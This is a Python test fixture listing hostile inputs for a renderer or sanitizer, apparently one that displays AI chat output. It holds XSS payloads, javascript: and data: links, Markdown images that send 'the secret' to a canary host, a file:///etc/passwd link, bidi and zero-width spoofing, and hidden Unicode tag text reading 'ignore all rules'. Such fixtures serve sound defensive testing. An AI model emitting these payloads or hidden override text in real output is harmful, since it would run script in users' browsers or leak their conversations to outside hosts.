"""Words that attack whoever shows them. Each would call `pwned()`, fetch from the canary or deceive the reader."""

CANARY = "https://canary.invalid"

PAYLOADS = [
    # Markup and scripts
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    f"<img src='{CANARY}/?q=1'>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    f"<iframe srcdoc='<script>parent.pwned()</script>' src={CANARY}></iframe>",
    f"<object data='{CANARY}/x'></object><embed src='{CANARY}/y'>",
    f"<link rel=stylesheet href={CANARY}/a.css><style>@import '{CANARY}/b.css';</style>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<base href={CANARY}/><a href=x>x</a>",
    f"<form action={CANARY}><input name=q autofocus onfocus=pwned()><button>go</button></form>",
    "<body onload=pwned()><details open ontoggle=pwned()><summary>x</summary></details>",
    f"<video src={CANARY}/v poster={CANARY}/p autoplay onerror=pwned()></video>",
    f'<div style="background:url({CANARY}/bg)" onclick=pwned()>x</div>',
    '<a href="javascript:pwned()" onmouseover=pwned()>x</a>',
    "<!--><img src=x onerror=pwned()>-->",
    "<template><script>pwned()</script></template><x-y is=z></x-y>",
    "</div></article></main><script>pwned()</script>",
    "&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    '<IMG """><SCRIPT>pwned()</SCRIPT>">',
    # Links that run something
    "[x](javascript:pwned()) [x](JaVaScRiPt:pwned()) [x]( javascript:pwned() )",
    "[x](java\tscript:pwned()) [x](&#106;avascript:pwned()) [x](javascript&colon;pwned())",
    "[x](\x01javascript:pwned()) [x](<javascript:pwned()>) <javascript:pwned()>",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) [x](vbscript:pwned()) [x](blob:https://x.y/1)",
    "[x](file:///etc/passwd) [x](//canary.invalid/x) [x](/v1/dialogues) [x](#new) [x](ws://canary.invalid)",
    "[x](https://bank.example@canary.invalid/) https://bank.example:pw@canary.invalid/",
    '[x](https://a.example/" onmouseover="pwned()) [x](https://a.example/\'><img src=x onerror=pwned()>)',
    "[a [b](https://b.example) c](javascript:pwned())",
    # Pictures that tell somebody what was said
    f"![the secret]({CANARY}/?q=secret)",
    f'![x](data:image/svg+xml,<svg/onload=pwned()>) ![x](javascript:pwned()) ![x](<{CANARY}/y> "t" onerror=pwned())',
    f"[![x]({CANARY}/inner.png)](https://a.example)",
    f"![a]({CANARY}/1)![b]({CANARY}/2) **![c]({CANARY}/3)** | ![d]({CANARY}/4)",
    f"[ref]: {CANARY}/ref 'title'\n\n![ref][ref] <{CANARY}/auto> {CANARY}/bare",
    # In the places where Markdown keeps text for later
    '```"><script>pwned()</script>\n<img src=x onerror=pwned()>\n```\n`<img src=x onerror=pwned()>`',
    (
        "| <img src=x onerror=pwned()> | [x](javascript:pwned()) |\n|---|---|\n"
        "| <svg onload=pwned()> | `</td><script>pwned()</script>` |"
    ),
    (
        "- [ ] <script>pwned()</script>\n> <script>pwned()</script>\n# <script>pwned()</script>\n"
        "1. <img src=x onerror=pwned()>"
    ),
    "<p>\n\n```html\n<script>pwned()</script>",
    # Characters that hide or turn things round
    "\u202egnp.exe\u202c \u2066\u2067abc\u2069 \u200e\u200f pass\u200bword",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules") + " hello",
    "\x1b[31mred\x1b[0m \x1b]8;;https://canary.invalid\x07link\x1b]8;;\x07 \x9b31m \x08\x08\x08",
    "Z̸̢̛͙͓͇̩̲" * 30,
    "**" * 400 + "x" + "> " * 200 + "\n" + "- " * 200 + "\n" + "[" * 400,
]
